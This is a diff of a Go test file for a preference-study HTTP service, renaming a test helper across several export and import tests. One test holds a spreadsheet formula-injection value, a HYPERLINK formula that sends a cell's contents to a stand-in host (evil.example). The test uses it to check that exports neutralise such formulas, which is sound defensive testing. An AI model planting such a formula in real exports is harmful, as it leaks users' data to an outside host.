@@ -11,7 +11,7 @@ import (
 )
 
 func TestExchange(t *testing.T) {
-	h := newHouse(t, nil)
+	h := newTestServer(t, nil)
 	h.want(201, "POST", "/v1/studies", coffee, nil)
 	h.play("ann", 3)
 	_, head, log := h.do("GET", "/v1/studies/coffee/export", "")
@@ -67,7 +67,7 @@ func TestExchange(t *testing.T) {
 
 // TestExchangePairs: chosen and rejected, and rankings, come in by what they are called, and go out again; what has no place there is said.
 func TestExchangePairs(t *testing.T) {
-	h := newHouse(t, nil)
+	h := newTestServer(t, nil)
 	h.want(201, "POST", "/v1/studies", `{"name":"prompts","space":{"items":[{"id":"a"},{"id":"b"},{"id":"c"}]}}`, nil)
 	var out imported
 	h.want(200, "POST", "/v1/studies/prompts/import", `{"chosen_id":"a","rejected_id":"b","prompt":"hi"}`+"\n"+`{"ranking":["a",["b","c"]]}`, &out, "Content-Type", "application/jsonl")
@@ -91,7 +91,7 @@ func TestExchangePairs(t *testing.T) {
 
 // TestExportFormula: a rater's name is never a formula in a spreadsheet.
 func TestExportFormula(t *testing.T) {
-	h := newHouse(t, nil)
+	h := newTestServer(t, nil)
 	h.want(201, "POST", "/v1/studies", coffee, nil)
 	const name = `=HYPERLINK("http://evil.example/?"&A1,"open")`
 	quoted, _ := json.Marshal(name) // a text can always be written
@@ -108,7 +108,7 @@ func TestExportFormula(t *testing.T) {
 
 // TestExportResults: the tables over HTTP are those of the study, with catch questions and what was refused.
 func TestExportResults(t *testing.T) {
-	h := newHouse(t, func(c *Config) { c.Now = func() time.Time { return time.Now().Add(time.Hour) } })
+	h := newTestServer(t, func(c *Config) { c.Now = func() time.Time { return time.Now().Add(time.Hour) } })
 	h.want(201, "POST", "/v1/studies", `{"name":"tea","params":[{"name":"sugar","low":0,"high":5}],"people":"per_rater","method":"random",
 		"checks":{"min_rt_ms":500,"catch_every":2,"catch":[{"better":{"sugar":2},"worse":{"sugar":5}}]}}`, nil)
 	for range 3 {
@@ -152,7 +152,7 @@ func TestExportResults(t *testing.T) {
 
 // TestExportPairsOfParameters: a table of names has no place for settings, which is the request's fault.
 func TestExportPairsOfParameters(t *testing.T) {
-	h := newHouse(t, nil)
+	h := newTestServer(t, nil)
 	h.want(201, "POST", "/v1/studies", coffee, nil)
 	for _, format := range []string{"chosen-csv", "battles-csv"} {
 		h.refused(422, "invalid", "query.format", "GET", "/v1/studies/coffee/export?format="+format, "")
